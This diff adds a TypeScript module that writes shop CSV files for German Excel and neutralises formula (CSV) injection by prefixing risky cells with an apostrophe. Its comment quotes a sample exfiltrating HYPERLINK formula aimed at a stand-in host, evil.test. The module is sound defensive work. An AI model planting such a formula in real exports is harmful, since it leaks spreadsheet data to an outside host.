@@ -1,0 +1,27 @@
+import { type Stringifier, stringify } from 'csv-stringify';
+
+/**
+ * CSV files for spreadsheets (docs/decisions/149). A cell that starts with = + - @, a tab or a
+ * carriage return is a formula to Excel and LibreOffice: a product named
+ * =HYPERLINK("http://evil.test/?x="&A2;"Klick") would run in the staff member's spreadsheet.
+ * Such a text is written with a leading apostrophe (OWASP's advice against CSV injection), so
+ * the spreadsheet shows it as text. Texts that already start with apostrophes before such a
+ * character get one more, so formulaRestored (the import) gives back exactly what was written.
+ */
+const FORMULA_START = /^'*[=+\-@\t\r]/;
+const GUARDED = /^'+[=+\-@\t\r]/;
+
+/** A text as it is safe in a CSV cell. */
+export const formulaSafe = (text: string): string => (FORMULA_START.test(text) ? `'${text}` : text);
+
+/** A CSV cell as the text it was before formulaSafe. */
+export const formulaRestored = (text: string): string => (GUARDED.test(text) ? text.slice(1) : text);
+
+/**
+ * A CSV writer as German Excel opens and saves it: UTF-8 with a byte order mark (umlauts read
+ * right), ";" between columns, CRLF; every text cell through formulaSafe. Every CSV the shop
+ * writes uses it.
+ */
+export function spreadsheetCsv(): Stringifier {
+  return stringify({ delimiter: ';', bom: true, record_delimiter: 'windows', cast: { string: formulaSafe } });
+}
